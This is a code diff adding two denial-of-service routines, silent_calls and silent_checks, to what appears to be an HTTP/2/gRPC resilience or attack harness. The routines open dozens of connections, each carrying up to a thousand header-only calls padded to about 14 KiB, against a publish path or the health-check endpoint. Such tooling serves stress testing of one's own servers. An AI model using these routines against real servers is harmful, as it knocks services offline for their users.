@@ -274,6 +274,25 @@ def subscribers(attack: Attack) -> None:
     attack.wait()
 
 
+def silent_calls(attack: Attack, path: str = PUBLISH) -> None:
+    """Calls with headers of 15 KiB that never send a message, a thousand on each of up to 60 connections."""
+    block = request(path, *((f"x-{i}", "v" * 1000) for i in range(14)))
+    for _ in range(min(60, attack.count // 50)):
+        made = attack.connect(GREETING)
+        if made is None or attack.is_over():
+            continue
+        for call in range(1000):
+            if not attack.send(made, frame(HEADERS, END_HEADERS, 2 * call + 1, block)):
+                break
+        attack.open.append(made)
+    attack.wait()
+
+
+def silent_checks(attack: Attack) -> None:
+    """The same with health checks."""
+    silent_calls(attack, "/grpc.health.v1.Health/Check")
+
+
 ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
     "silent": silent,
     "drip": drip,
@@ -287,6 +306,8 @@ ATTACKS: Final[dict[str, Callable[[Attack], None]]] = {
     "rapid_resets": rapid_resets,
     "ping_flood": ping_flood,
     "subscribers": subscribers,
+    "silent_calls": silent_calls,
+    "silent_checks": silent_checks,
 }
 
 
